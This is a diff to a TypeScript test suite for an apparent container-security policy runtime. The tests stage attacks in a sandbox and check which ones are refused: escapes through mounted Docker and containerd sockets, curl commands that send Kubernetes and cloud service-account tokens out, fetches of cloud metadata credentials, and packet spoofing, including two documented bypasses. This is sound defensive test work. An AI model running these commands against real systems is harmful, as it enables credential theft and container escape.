@@ -13,13 +13,31 @@ import type { PolicySet } from '@bailiff/runtime';
 import { waitFor } from '@bailiff/service/testing';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { LOAD_TIMEOUT_MS, Rig } from './harness/rig.ts';
-import { type Ended, linkedRuntime, operations, preload, readySet, readySetWithout, Stage } from './scenarios-rig.ts';
+import {
+  AS_CONTAINERS_ARE,
+  type Ended,
+  linkedRuntime,
+  operations,
+  preload,
+  readySet,
+  readySetWithout,
+  Stage,
+  shippedPolicy,
+} from './scenarios-rig.ts';
 
 const CORE_PATTERN = '/proc/sys/kernel/core_pattern';
 const MODPROBE = '/proc/sys/kernel/modprobe';
-const METADATA = '169.254.169.254';
+const METADATA = (shippedPolicy('metadata-guard').rules[0]?.network?.cidrs ?? []).map(
+  (cidr) => cidr.split('/')[0] ?? '',
+);
 const POOL = '203.0.113.7';
 const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';
+const CLOUD_TOKENS = [
+  '/run/secrets/eks.amazonaws.com/serviceaccount/token',
+  '/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token',
+  '/run/secrets/azure/tokens/azure-identity-token',
+  '/run/secrets/tokens/gcp-ksa/token',
+];
 const LOADER = process.arch === 'arm64' ? '/usr/lib/ld-linux-aarch64.so.1' : '/usr/lib64/ld-linux-x86-64.so.2';
 
 /** Whether it landed, as the host or the far end sees it; both may take their time. */
@@ -132,10 +150,10 @@ async function dropped(stage: Stage, name: string, port = 3333): Promise<Landed>
   return hears('pool {"method":"mining.subscribe"}');
 }
 
-function withToken(stage: Stage): void {
-  mkdirSync(path.join(stage.root, path.dirname(TOKEN)), { recursive: true });
-  stage.mount(path.dirname(TOKEN), '-t', 'tmpfs', 'token');
-  writeFileSync(path.join(stage.root, TOKEN), 'eyJhbGciOi');
+function withToken(stage: Stage, token = TOKEN): void {
+  mkdirSync(path.join(stage.root, path.dirname(token)), { recursive: true });
+  stage.mount(path.dirname(token), '-t', 'tmpfs', 'token');
+  writeFileSync(path.join(stage.root, token), 'eyJhbGciOi');
 }
 
 /** Without a shell to start from. */
@@ -153,6 +171,16 @@ const escaping = (
   ...{ name, attack, policies: ['escape-guard'], refusedBy: [refusedBy].flat() },
   ...(behind === undefined ? {} : { behind }),
 });
+
+/** Who starts containers for whoever asks, by its socket. */
+const ENGINES: Readonly<Record<string, string>> = {
+  docker: '/run/docker.sock',
+  'cri-dockerd': '/run/cri-dockerd.sock',
+  containerd: '/run/k3s/containerd/containerd.sock',
+  crio: '/run/crio/crio.sock',
+  podman: '/run/podman/podman.sock',
+  buildkit: '/run/buildkit/buildkitd.sock',
+};
 
 const ESCAPES: readonly Scenario[] = [
   escaping(
@@ -212,14 +240,16 @@ const ESCAPES: readonly Scenario[] = [
     },
     'host-binaries',
   ),
-  escaping(
-    'docker.sock mounted',
-    async (stage) => {
-      const request = '-d \'{"Privileged":true}\' http://docker/containers/create';
-      await stage.sh(`curl -s --unix-socket ${stage.share('/run/docker.sock')} ${request}`);
-      return hears('docker POST /containers/create {"Privileged":true}');
-    },
-    'runtime-sockets',
+  ...Object.entries(ENGINES).map(([name, socket]) =>
+    escaping(
+      `${path.basename(socket)} mounted`,
+      async (stage) => {
+        const request = `-d '{"Privileged":true}' http://engine/containers/create`;
+        await stage.sh(`curl -s --unix-socket ${stage.share(socket)} ${request}`);
+        return hears(`${name} POST /containers/create {"Privileged":true}`);
+      },
+      'runtime-sockets',
+    ),
   ),
   escaping(
     'nsenter by hostPID',
@@ -363,15 +393,41 @@ const PROGRAMS: readonly Scenario[] = [
     },
     refusedBy: ['token-by-shell'],
   },
+  ...CLOUD_TOKENS.map(
+    (token): Scenario => ({
+      name: `token of a cloud sent away from a shell, ${token}`,
+      policies: ['service-account-token-guard'],
+      async attack(stage) {
+        withToken(stage, token);
+        await stage.sh(`curl -s -d "$(cat /var${token})" http://127.0.0.1:${webPort}/token`);
+        return hears('web POST /token eyJhbGciOi');
+      },
+      refusedBy: ['token-by-shell'],
+    }),
+  ),
   {
-    name: 'metadata endpoint',
-    policies: ['metadata-guard'],
+    name: 'service-account token sent away by a downloader without a shell',
+    policies: ['service-account-token-guard'],
     async attack(stage) {
-      await stage.sh(`curl -s http://${METADATA}/latest/meta-data/iam/security-credentials/`);
-      return hears('metadata GET /latest/meta-data/iam/security-credentials/');
+      withToken(stage);
+      await stage.run(['/usr/bin/curl', '-s', '-d', `@/var${TOKEN}`, `http://127.0.0.1:${webPort}/token`]);
+      return hears('web POST /token eyJhbGciOi');
     },
-    refusedBy: ['metadata'],
+    refusedBy: ['token-by-downloader'],
   },
+  ...METADATA.map(
+    (address): Scenario => ({
+      name: `metadata endpoint ${address}`,
+      policies: ['metadata-guard'],
+      async attack(stage) {
+        const zone = address.startsWith('fe80:') ? '%25far0' : '';
+        const host = address.includes(':') ? `[${address}${zone}]` : address;
+        await stage.sh(`curl -s 'http://${host}/latest/meta-data/iam/security-credentials/'`);
+        return hears('metadata GET /latest/meta-data/iam/security-credentials/');
+      },
+      refusedBy: ['metadata'],
+    }),
+  ),
   {
     name: 'CVE-2026-31431, AF_ALG',
     policies: ['af-alg'],
@@ -439,14 +495,20 @@ beforeAll(async () => {
   stage = new Stage(rig);
   for (const compiled of [operations, linkedRuntime, preload]) compiled();
   execFileSync('ip', ['link', 'add', 'far0', 'type', 'dummy']);
-  for (const address of [METADATA, POOL]) execFileSync('ip', ['addr', 'add', `${address}/32`, 'dev', 'far0']);
+  for (const address of [...METADATA, POOL]) {
+    const prefix = address.includes(':') ? [`${address}/128`, 'nodad'] : [`${address}/32`];
+    execFileSync('ip', ['addr', 'add', ...prefix, 'dev', 'far0']);
+  }
   execFileSync('ip', ['link', 'set', 'far0', 'up']);
   webPort = portOf(await listening(web('web'), { host: '127.0.0.1', port: 0 }));
   shellPort = portOf(await listening(plain('shell', 'id\nexit\n'), { host: '127.0.0.1', port: 0 }));
-  await listening(web('metadata'), { host: METADATA, port: 80 });
+  await listening(web('metadata'), { host: '::', port: 80 });
   for (const port of [443, 3333]) await listening(plain('pool', ''), { host: POOL, port });
   await listening(web('engine'), { path: '/run/engine' });
-  await listening(web('docker'), { path: '/run/docker.sock' });
+  for (const [name, socket] of Object.entries(ENGINES)) {
+    mkdirSync(path.dirname(socket), { recursive: true });
+    await listening(web(name), { path: socket });
+  }
 }, LOAD_TIMEOUT_MS);
 
 afterAll(() => {
@@ -511,24 +573,68 @@ describe('raw sockets', () => {
   };
   const known = { program: '/usr/bin/scenario-ops', comm: 'scenario-ops', uid: 0, type: 3 };
 
-  it('spoofing - lands without a policy and its maker is known by the cookie; with the ready one there is no socket', async () => {
-    const socket = createSocket('udp4');
+  /** Hears datagrams on loopback, and from which addresses they claim to come. */
+  async function listener(
+    type: 'udp4' | 'udp6',
+  ): Promise<{ port: string; from: string[]; heardOne(): Promise<void> } & Disposable> {
+    const socket = createSocket(type);
     const from: string[] = [];
     socket.on('message', (_text, { address }) => from.push(address));
-    socket.bind(0, '127.0.0.1');
+    socket.bind(0, type === 'udp4' ? '127.0.0.1' : '::1');
     await once(socket, 'listening');
-    const forge = () => stage.ops('forge', FORGED, '127.0.0.1', `${socket.address().port}`);
+    const heardOne = async () =>
+      void (await waitFor(() => from.length > 0, { what: 'the forged packet', state: () => stage.lastLines() }));
+    return { port: `${socket.address().port}`, from, heardOne, [Symbol.dispose]: () => socket.close() };
+  }
+
+  it('spoofing - lands without a policy and its maker is known by the cookie; with the ready one there is no socket', async () => {
+    using far = await listener('udp4');
+    const forge = () => stage.ops('forge', FORGED, '127.0.0.1', far.port);
     rig.object.maps.pods.delete(stage.pod.uid);
     const { lines } = await forge();
-    await waitFor(() => from.length > 0, { what: 'the forged packet', state: () => lines });
-    expect(from).toEqual([FORGED]);
+    await far.heardOne();
+    expect(far.from).toEqual([FORGED]);
     const { tgid, maker: found } = maker(lines);
     expect(found).toMatchObject({ ...known, tgid, pod: stage.pod.uid, family: 2, protocol: 255 });
     stage.pod.put(readySet('no-raw-sockets'));
     expect((await forge()).lines).toEqual(['socket: EPERM']);
     expect(stage.pod.counts()).toEqual({ raw: 1 });
-    expect(from).toEqual([FORGED]);
-    socket.close();
+    expect(far.from).toEqual([FORGED]);
+  });
+
+  it('spoofing by IP_TRANSPARENT - lands without a policy; with the ready one the option is refused, and an honest packet arrives', async () => {
+    using far = await listener('udp4');
+    const forge = () =>
+      stage.run([...AS_CONTAINERS_ARE, '/usr/bin/scenario-ops', 'transparent', FORGED, '127.0.0.1', far.port]);
+    rig.object.maps.pods.delete(stage.pod.uid);
+    expect((await forge()).lines).toEqual(['landed']);
+    await far.heardOne();
+    expect(far.from.splice(0)).toEqual([FORGED]);
+    stage.pod.put(readySet('no-raw-sockets'));
+    expect((await forge()).lines).toEqual(['transparent: EPERM']);
+    expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
+    await stage.run([...AS_CONTAINERS_ARE, '/usr/bin/bash', '-c', `echo x > /dev/udp/127.0.0.1/${far.port}`]);
+    await far.heardOne();
+    expect(far.from).toEqual(['127.0.0.1']);
+    expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
+  });
+
+  it('what slips by - IP_TRANSPARENT with CAP_NET_ADMIN, which the kernel asks for when CAP_NET_RAW was refused', async () => {
+    using far = await listener('udp4');
+    stage.pod.put(readySet('no-raw-sockets'));
+    expect((await stage.ops('transparent', FORGED, '127.0.0.1', far.port)).lines).toEqual(['landed']);
+    await far.heardOne();
+    expect([far.from, stage.pod.counts()]).toEqual([[FORGED], { 'net-raw': 1 }]);
+  });
+
+  it('what slips by - an IPv6 source by IPV6_FREEBIND, for which no capability is asked', async () => {
+    using far = await listener('udp6');
+    stage.pod.put(readySet('no-raw-sockets'));
+    const without = ['/usr/bin/setpriv', '--inh-caps=-all', '--bounding-set=-all'];
+    const forge = ['/usr/bin/scenario-ops', 'freebind', '2001:db8::9', '::1', far.port];
+    expect((await stage.run([...without, ...forge])).lines).toEqual(['landed']);
+    await far.heardOne();
+    expect([far.from, stage.pod.counts()]).toEqual([['2001:db8::9'], {}]);
   });
 
   it('frames - the same of a packet socket', async () => {
